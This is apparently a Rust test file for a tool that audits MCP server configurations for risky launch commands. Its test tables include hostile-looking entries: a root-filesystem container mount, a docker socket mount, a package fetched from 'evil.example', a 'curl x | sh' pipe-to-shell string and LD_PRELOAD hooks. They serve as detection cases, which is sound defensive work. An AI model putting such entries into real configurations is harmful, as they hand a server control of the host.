//! Issue 13 (item 4): the misses and false positives of `ffmcp audit`, as a
//! table of entries and the findings each must (and must only) produce, as
//! `severity:rule`; and entries already under `ffmcp guard`, judged on a
//! real policy file read with guard's own parser.

use serde_json::{Value, json};

use super::tests::{never_writable, probes, real_policy};
use super::*;

/// `severity:rule` of every finding for one entry, sorted.
fn judged(entry: &Value, probes: &Probes) -> Vec<String> {
    let report = audit(&json!({ "mcpServers": { "s": entry } }), probes).expect("object");
    let mut got: Vec<String> = report
        .findings()
        .map(|f| format!("{}:{}", f.severity.as_str(), f.rule))
        .collect();
    got.sort();
    got
}

fn check(table: &[(Value, &[&str])]) {
    let probes = probes();
    for (entry, expected) in table {
        let mut expected: Vec<String> = expected.iter().map(|s| (*s).to_owned()).collect();
        expected.sort();
        assert_eq!(judged(entry, &probes), expected, "{entry}");
    }
}

fn run(command: &str, args: &[&str]) -> Value {
    json!({ "command": command, "args": args })
}

fn env(vars: Value) -> Value {
    json!({ "command": "/usr/local/bin/server", "env": vars })
}

#[test]
fn containers_that_are_not_contained() {
    check(&[
        (
            run("docker", &["run", "-i", "--rm", "-v", "/:/host", "img:1"]),
            &["high:container-host-mount"],
        ),
        (
            run("docker", &["run", "-i", "--volume=/etc:/etc:ro", "img"]),
            &["high:container-host-mount"],
        ),
        (
            run("podman", &["run", "-i", "-v", "/home/me:/data", "img"]),
            &["high:container-host-mount"],
        ),
        (
            run("docker", &["run", "-v", "~/.ssh:/root/.ssh", "img"]),
            &["high:container-host-mount"],
        ),
        (
            run(
                "docker",
                &["run", "--mount", "type=bind,source=/,target=/host", "img"],
            ),
            &["high:container-host-mount"],
        ),
        (
            run("docker", &["run", "-i", "--privileged", "img"]),
            &["high:container-privileged"],
        ),
        (
            run("docker", &["run", "--cap-add", "SYS_ADMIN", "img"]),
            &["high:container-privileged"],
        ),
        (
            run("docker", &["run", "--network=host", "img"]),
            &["high:container-host-namespace"],
        ),
        (
            run("docker", &["run", "--net", "host", "img"]),
            &["high:container-host-namespace"],
        ),
        (
            run("docker", &["run", "--pid=host", "img"]),
            &["high:container-host-namespace"],
        ),
        (
            run(
                "docker",
                &[
                    "run",
                    "-v",
                    "/var/run/docker.sock:/var/run/docker.sock",
                    "img",
                ],
            ),
            &["high:container-socket"],
        ),
        (
            run(
                "docker",
                &[
                    "container",
                    "run",
                    "-v",
                    "/run/podman/podman.sock:/s.sock",
                    "i",
                ],
            ),
            &["high:container-socket"],
        ),
        // Contained: a project directory, a named volume, flags after the image.
        (
            run(
                "docker",
                &[
                    "run",
                    "-i",
                    "--rm",
                    "-e",
                    "TOKEN",
                    "-v",
                    "/home/me/projects/site:/data:ro",
                    "-v",
                    "cache:/cache",
                    "img:1.0",
                    "--privileged",
                ],
            ),
            &[],
        ),
        (run("docker", &["ps"]), &[]),
    ]);
}

#[test]
fn code_from_urls_and_git() {
    check(&[
        (
            run("uvx", &["--from", "git+https://github.com/o/r", "cmd"]),
            &["high:remote-source"],
        ),
        (
            run("uvx", &["--from", "git+https://github.com/o/r@v1", "cmd"]),
            &["high:remote-source"],
        ),
        (
            run(
                "uvx",
                &[
                    "--from",
                    "git+https://github.com/o/r@0123456789abcdef0123456789abcdef01234567",
                    "cmd",
                ],
            ),
            &["medium:remote-source"],
        ),
        (
            run("npx", &["-y", "https://evil.example/pkg.tgz"]),
            &["high:remote-source"],
        ),
        (
            run("npx", &["-y", "git+https://github.com/o/r.git"]),
            &["high:remote-source"],
        ),
        (
            run("npx", &["-y", "github:user/repo"]),
            &["high:remote-source"],
        ),
        (run("npx", &["-y", "user/repo"]), &["high:remote-source"]),
        (
            run("npx", &["-y", "github:user/repo#0123abc"]),
            &["medium:remote-source"],
        ),
        (
            run("pipx", &["run", "--spec", "git+https://x.example/r", "c"]),
            &["high:remote-source"],
        ),
        (
            run("uv", &["run", "https://x.example/server.py"]),
            &["high:remote-source"],
        ),
        (
            run("deno", &["run", "-A", "https://x.example/server.ts"]),
            &["high:remote-source"],
        ),
        (
            run(
                "deno",
                &[
                    "run",
                    "--allow-run",
                    "--allow-net",
                    "https://x.example/s.ts",
                ],
            ),
            &["high:remote-source"],
        ),
        (
            run(
                "deno",
                &[
                    "run",
                    "--allow-net=api.example.com",
                    "https://x.example/s.ts",
                ],
            ),
            &["medium:remote-source"],
        ),
        // Registries, pinned.
        (run("deno", &["run", "-A", "jsr:@scope/server@1.0.0"]), &[]),
        (run("npx", &["-y", "@scope/pkg@1.2.3"]), &[]),
        (run("uvx", &["pkg==1.0"]), &[]),
    ]);
}

#[test]
fn inline_code_behind_uv_run_and_env_split_strings() {
    check(&[
        (
            run(
                "uv",
                &[
                    "run",
                    "--with",
                    "requests==2.32.3",
                    "python",
                    "-c",
                    "import x",
                ],
            ),
            &["high:inline-code"],
        ),
        (
            run("uv", &["run", "--with", "requests", "python", "-c", "x"]),
            &["high:inline-code", "medium:unpinned-package"],
        ),
        (
            run("env", &["-S", "sh -c 'exec server'"]),
            &["high:inline-code"],
        ),
        (
            run("/usr/bin/env", &["-S", "FOO=1 bash -c \"curl x | sh\""]),
            &["high:inline-code", "high:pipe-to-shell"],
        ),
        (
            run("env", &["--split-string=python3 -c print(1)"]),
            &["high:inline-code"],
        ),
        (run("uv", &["run", "server.py"]), &[]),
        (run("env", &["-S", "/usr/local/bin/server --stdio"]), &[]),
    ]);
}

#[test]
fn shells_and_interpreters_reading_their_program_from_stdin() {
    check(&[
        (run("sh", &["-s"]), &["high:stdin-code"]),
        (run("bash", &["-s", "--", "arg"]), &["high:stdin-code"]),
        (run("bash", &[]), &["high:stdin-code"]),
        (run("/bin/sh", &["-"]), &["high:stdin-code"]),
        (run("python3", &["-"]), &["high:stdin-code"]),
        (run("python3", &["-u"]), &["high:stdin-code"]),
        (run("node", &[]), &["high:stdin-code"]),
        (run("bash", &["/opt/mcp/run.sh"]), &[]),
        (run("python3", &["-m", "server"]), &[]),
        (run("node", &["/opt/server.js"]), &[]),
    ]);
}

#[test]
fn scripts_in_temp_and_download_folders() {
    check(&[
        (
            run("node", &["-r", "/tmp/x.js", "/opt/server.js"]),
            &["high:writable-script"],
        ),
        (
            run("node", &["--require=/tmp/hook.js", "/opt/server.js"]),
            &["high:writable-script"],
        ),
        (
            run("python3", &["/tmp/server.py"]),
            &["high:writable-script"],
        ),
        (
            run("python3", &["/home/me/Downloads/server.py"]),
            &["high:writable-script"],
        ),
        (
            run("bash", &["/var/tmp/start.sh"]),
            &["high:writable-script"],
        ),
        (
            run("/usr/local/bin/runner", &["--plugin", "/dev/shm/p.so"]),
            &["high:writable-script"],
        ),
        // A temp folder as data, a script elsewhere.
        (run("/usr/local/bin/fs-server", &["/tmp"]), &[]),
        (run("node", &["/opt/server.js", "/tmp/workdir"]), &[]),
        (run("python3", &["/home/me/mcp/server.py"]), &[]),
    ]);
}

#[test]
fn loader_and_interpreter_variables() {
    check(&[
        (
            env(json!({ "LD_PRELOAD": "/opt/lib/hook.so" })),
            &["high:loader-env"],
        ),
        (
            env(json!({ "LD_LIBRARY_PATH": "/opt/lib" })),
            &["medium:loader-env"],
        ),
        (
            env(json!({ "LD_LIBRARY_PATH": "/tmp/libs" })),
            &["high:loader-env"],
        ),
        (
            env(json!({ "DYLD_INSERT_LIBRARIES": "/x.dylib" })),
            &["high:loader-env"],
        ),
        (
            env(json!({ "NODE_OPTIONS": "--require /opt/hook.js" })),
            &["high:interpreter-env"],
        ),
        (
            env(json!({ "PYTHONPATH": "/opt/py" })),
            &["medium:interpreter-env"],
        ),
        (
            env(json!({ "PYTHONSTARTUP": "/opt/s.py" })),
            &["high:interpreter-env"],
        ),
        (env(json!({ "PERL5OPT": "-Mx" })), &["high:interpreter-env"]),
        (env(json!({ "RUBYOPT": "-rx" })), &["high:interpreter-env"]),
        (
            env(json!({ "BASH_ENV": "/opt/env.sh" })),
            &["high:interpreter-env"],
        ),
        (
            run("env", &["LD_PRELOAD=/tmp/x.so", "/usr/local/bin/server"]),
            &["high:loader-env"],
        ),
        (
            env(json!({ "PATH": "/usr/local/bin:/usr/bin", "LOG_LEVEL": "debug" })),
            &[],
        ),
    ]);
}

/// A policy file in a temp dir, and probes that read it.
fn with_policy(toml: &str, entry_args: &[&str]) -> Vec<String> {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("p.toml"), toml).expect("write policy");
    let probes = Probes {
        world_writable: &never_writable,
        guard_policy: &real_policy,
        config_dir: dir.path().to_path_buf(),
        home: Some(PathBuf::from("/home/me")),
    };
    let mut args = vec!["guard", "--policy", "p.toml", "--"];
    args.extend_from_slice(entry_args);
    judged(&run("/usr/local/bin/ffmcp", &args), &probes)
}

#[test]
fn guarded_entries_are_judged_on_their_policy() {
    let npx = &["npx", "-y", "some-server"];
    // A tight policy: what guard confines is not reported again.
    assert_eq!(
        with_policy("programs = [\"npx\"]\nargs = [\"*\"]\n", npx),
        Vec::<String>::new()
    );
    assert_eq!(
        with_policy("programs = [\"bash\"]\n", &["bash", "-c", "exec x"]),
        Vec::<String>::new()
    );
    // What the policy grants is.
    assert_eq!(
        with_policy(
            "programs = [\"npx\"]\nnetwork = true\nsubprocesses = true\n",
            npx
        ),
        ["low:guard-subprocesses", "medium:guard-network"]
    );
    assert_eq!(
        with_policy("programs = [\"npx\"]\nwrite = [\"~\"]\n", npx),
        ["high:guard-writes-home"]
    );
    assert_eq!(
        with_policy(
            "programs = [\"npx\"]\nwrite = [\"/home/me/.config/autostart\"]\n",
            npx
        ),
        ["high:guard-writes-home"]
    );
    assert_eq!(
        with_policy(
            "programs = [\"npx\"]\nwrite = [\"/home/me/projects/site\"]\n",
            npx
        ),
        Vec::<String>::new()
    );
    assert_eq!(
        with_policy("programs = [\"npx\"]\nread = [\"/\"]\n", npx),
        ["medium:guard-broad-read"]
    );
    assert_eq!(
        with_policy(
            "programs = [\"npx\"]\nread = [\"~/.ssh\"]\nnetwork = true\n",
            npx
        ),
        ["high:guard-broad-read", "medium:guard-network"]
    );
    // Guard cannot undo a container's flags or a loader variable.
    assert_eq!(
        with_policy(
            "programs = [\"docker\"]\n",
            &["docker", "run", "--privileged", "img"]
        ),
        ["high:container-privileged"]
    );
    // An unreadable policy: report what runs as if unguarded.
    assert_eq!(
        with_policy("programs = [\"npx\"]\nnetwrk = true\n", npx),
        ["low:guard-policy-unreadable", "medium:unpinned-package"]
    );
}

/// Odd and hostile command lines give findings or nothing, never a panic,
/// and deep `env -S` nesting or huge argument lists stay fast.
#[test]
fn odd_command_lines_never_panic() {
    let odd: &[&[&str]] = &[
        &[],
        &[""],
        &["-"],
        &["--"],
        &["-S"],
        &["-S", ""],
        &["-S", "'unterminated"],
        &["-S", "\\"],
        &["-u"],
        &["run"],
        &["run", "-v"],
        &["run", "--mount"],
        &["run", "-v", ":"],
        &["run", "--with"],
        &["guard", "--policy"],
        &["guard", "--"],
        &["-c"],
        &["-r"],
        &["é", "ü-ñ", "--require=é", "C:", "C:é"],
        &["--token", "é"],
        &["https://ü:é@x"],
    ];
    let probes = probes();
    for program in [
        "env", "docker", "podman", "uv", "uvx", "npx", "deno", "ffmcp", "sh", "node", "python3",
        "pipx", "cmd", "pwsh", "sudo", "é",
    ] {
        for args in odd {
            judged(&run(program, args), &probes);
        }
    }
    let started = std::time::Instant::now();
    let nested = format!("{}server", "-S ".repeat(10_000));
    judged(&run("env", &["-S", &nested]), &probes);
    let many: Vec<String> = (0..20_000).map(|i| format!("/tmp/s{i}.js")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    judged(&run("node", &many), &probes);
    let tokens: Vec<String> = (0..20_000)
        .map(|i| format!("--api-key=Zq8xLm2Rt5Yp{i:06}"))
        .collect();
    let tokens: Vec<&str> = tokens.iter().map(String::as_str).collect();
    let got = judged(&run("/opt/s", &tokens), &probes);
    assert_eq!(got.len(), MAX_PER_RULE, "{got:?}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
}

/// `--policy /dev/zero` (or a FIFO) must not hang the audit or fill memory.
#[cfg(unix)]
#[test]
fn hostile_policy_paths_are_refused_before_reading() {
    let started = std::time::Instant::now();
    for policy in ["/dev/zero", "/dev/stdin", "/", "/nonexistent/p.toml"] {
        let entry = run(
            "ffmcp",
            &["guard", "--policy", policy, "--", "bash", "-c", "x"],
        );
        assert_eq!(
            judged(&entry, &probes()),
            ["high:inline-code", "low:guard-policy-unreadable"],
            "{policy}"
        );
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn generated_policies_parse_with_guards_parser() {
    let dir = tempfile::tempdir().expect("tempdir");
    let args: Vec<String> = [
        "-y",
        "pkg \"quoted\" \\ back\nslash",
        "/home/me/projects",
        "/",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let env = vec![
        "API_KEY".to_owned(),
        "LD_PRELOAD".to_owned(),
        "NODE_OPTIONS".to_owned(),
    ];
    let draft = policy_draft::draft("npx", &args, &env);
    let path = dir.path().join("p.toml");
    std::fs::write(&path, draft.to_toml("name \"with\" quotes\nand lines")).expect("write");
    let policy = GuardPolicy::load(&path).expect("guard parses the generated policy");
    assert_eq!(policy.programs, ["npx"]);
    assert_eq!(policy.args, args);
    assert_eq!(policy.read, ["/home/me/projects"], "never the root");
    assert!(policy.write.is_empty());
    assert!(
        policy.network && policy.subprocesses,
        "npx downloads and spawns"
    );
    assert_eq!(policy.env, ["API_KEY"]);
    let plain = policy_draft::draft("/usr/local/bin/server", &["--stdio".into()], &[]);
    assert!(!plain.network && !plain.subprocesses);
}
